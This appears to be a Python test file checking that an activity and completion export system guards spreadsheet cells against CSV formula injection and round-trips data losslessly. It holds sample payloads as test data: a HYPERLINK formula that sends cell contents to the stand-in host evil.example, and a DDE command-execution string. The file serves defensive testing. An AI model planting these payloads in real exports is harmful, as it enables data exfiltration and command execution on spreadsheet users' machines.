"""Text exports cannot carry a formula into a spreadsheet (OWASP CSV injection), and import → export →
import stays lossless."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import adapters.batch as batch
from adapters.batch.completion_files import read_completion_file
from adapters.batch.completion_files import render as render_completions
from adapters.formula_guard import TRIGGERS, guard, unguard
from tests.annual.conftest import at, register
from tests.batch.strategies import items, text
from tests.completion_batches.strategies import reports

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
STARTS = st.sampled_from(["=", "+", "-", "@", "'", "'=", "''", "'-", "'@x", "=1+", "-2"])
formula_like = st.tuples(STARTS, text).map("".join)


def cells(data: bytes, dialect: str) -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), dialect=dialect) for cell in row
    ]


def assert_no_formula(data: bytes, dialect: str = "excel-tab") -> None:
    for cell in cells(data, dialect):
        assert not cell.startswith(TRIGGERS), cell


@given(st.text())
def test_guard_then_unguard_gives_back_any_text(value):
    assert unguard(guard(value)) == value
    assert not guard(value).startswith(TRIGGERS)


def test_a_hyperlink_title_is_exported_as_text_and_reads_back_the_same():
    item = {
        "Lom": {
            "general": {
                "identifier": [{"catalog": "Provider Activity ID", "entry": "-A1"}],
                "title": EVIL,
                "description": "@SUM(1)",
            }
        }
    }
    data = batch.render("tab", [item])
    assert "'" + EVIL in cells(data, "excel-tab")
    assert_no_formula(data)
    assert batch.read_file(data)[1][0].item == item


def test_the_exported_tab_file_of_the_api_guards_titles(client, system, token):
    register(system, "0001234", "ACCME", "Acme CME")
    prov = token("provider", provider="0001234")
    from bench.activities_import import make_items

    item = make_items(1)[0]
    item["Lom"]["general"]["title"] = EVIL
    stored = client.post(
        "/api/v1/providers/0001234/activities/batch", headers=prov, content=batch.render("json", [item])
    )
    assert stored.status_code == 200 and stored.json()["counts"]["created"] == 1, stored.text
    exported = client.get("/api/v1/providers/0001234/activities/export?format=tab", headers=prov)
    assert "'" + EVIL in cells(exported.content, "excel-tab")
    assert_no_formula(exported.content)
    again = client.post("/api/v1/providers/0001234/activities/batch", headers=prov, content=exported.content).json()
    assert again["counts"]["unchanged"] == 1 and again["counts"]["rejected"] == 0


def test_the_year_end_csv_guards_provider_names(client, system, token):
    register(system, "0001234", "ACCME", "=cmd|' /C calc'!A0")
    at(system, 2026, 2, 1)
    answer = client.get("/api/v1/accreditor/year-end/2025?format=csv", headers=token("accreditor"))
    assert answer.status_code == 200
    assert "'=cmd|' /C calc'!A0" in cells(answer.content, "excel")
    assert_no_formula(answer.content, "excel")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(generated=st.lists(st.tuples(items, formula_like, formula_like), min_size=1, max_size=4))
def test_formula_like_text_round_trips_through_the_tab_file(generated):
    chosen = []
    for item, title, entry in generated:
        item = {**item, "Lom": {"general": {**item["Lom"]["general"], "title": title}}}
        item["Lom"]["general"]["identifier"] = [{**i, "entry": entry} for i in item["Lom"]["general"]["identifier"]]
        chosen.append(item)
    data = batch.render("tab", chosen)
    assert_no_formula(data)
    assert [r.item for r in batch.read_file(data, "activities.txt")[1]] == chosen


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(generated=st.lists(reports(), min_size=1, max_size=3), first=STARTS, last=STARTS)
def test_formula_like_names_round_trip_through_the_completion_tab_file(generated, first, last):
    generated = [
        replace(r, query=replace(r.query, first_name=first + r.query.first_name, last_name=last + r.query.last_name))
        for r in generated
    ]
    data = render_completions("tab", generated, "0004444")
    assert_no_formula(data)
    assert [r.report for r in read_completion_file(data, "completions.txt", "0004444")[1]] == generated
